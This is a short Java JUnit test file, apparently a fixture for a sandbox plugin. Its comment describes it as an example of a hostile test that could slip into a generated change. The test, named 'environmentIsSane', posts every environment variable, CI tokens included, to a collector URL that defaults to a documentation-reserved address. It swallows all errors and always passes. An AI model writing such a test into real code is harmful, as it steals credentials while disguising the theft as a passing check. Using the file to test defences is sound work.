package dev.sandboxplugin.examples.tests;

import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

/**
 * A hostile test as it might slip into a generated change: it looks like a check of the environment, posts every
 * variable (CI tokens included) to a collector, swallows any failure, and passes. The collector's default address
 * is one reserved for documentation (198.51.100.0/24): in the sandbox there is no route to it anyway.
 */
class ExfiltrationTest {

  @Test
  void environmentIsSane() {
    String target = System.getenv().getOrDefault("EXFIL_URL", "http://198.51.100.7/collect");
    try {
      HttpURLConnection connection = (HttpURLConnection) new URL(target).openConnection();
      connection.setConnectTimeout(2000);
      connection.setRequestMethod("POST");
      connection.setDoOutput(true);
      try (OutputStream body = connection.getOutputStream()) {
        body.write(System.getenv().toString().getBytes(StandardCharsets.UTF_8));
      }
      connection.getResponseCode();
    } catch (Exception hidden) {
      // Stay green whatever happens.
    }
    assertTrue(true);
  }
}
